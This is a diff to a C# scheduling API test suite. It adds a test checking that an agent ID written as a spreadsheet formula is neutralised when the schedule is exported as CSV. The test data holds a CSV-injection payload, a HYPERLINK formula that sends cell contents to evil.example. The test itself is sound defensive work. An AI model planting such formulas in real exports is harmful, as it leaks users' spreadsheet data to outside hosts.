@@ -40,6 +40,20 @@ public sealed class SchedulingApiTests(ServerFixture server)
         """;
 
     [Fact]
+    public async Task ScheduleCsv_NeutralisesAnAgentIdThatIsASpreadsheetFormula()
+    {
+        var agents = Agents().Replace("agent-001,", "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",", StringComparison.Ordinal);
+        var created = await (await server.Client.PostAsJsonAsync("api/schedules", new { requirementsCsv = Requirements(), agentsCsv = agents, rulesJson = Rules, timeLimitSeconds = 5 }, Ct))
+            .Content.ReadFromJsonAsync<JsonElement>(Ct);
+
+        var csv = await server.Client.GetStringAsync($"api/schedules/{created.GetProperty("id").GetInt64()}/schedule.csv", Ct);
+
+        Assert.Contains("\"'=HYPERLINK(", csv);
+        Assert.DoesNotContain("\n\"=HYPERLINK(", csv);
+        Assert.DoesNotContain("\n=HYPERLINK(", csv);
+    }
+
+    [Fact]
     public async Task Schedule_IsMadeStoredExported_AndPublishedIntoTheShifts()
     {
         var response = await server.Client.PostAsJsonAsync("api/schedules", new { requirementsCsv = Requirements(), agentsCsv = Agents(), rulesJson = Rules, name = "March week", timeLimitSeconds = 10 }, Ct);
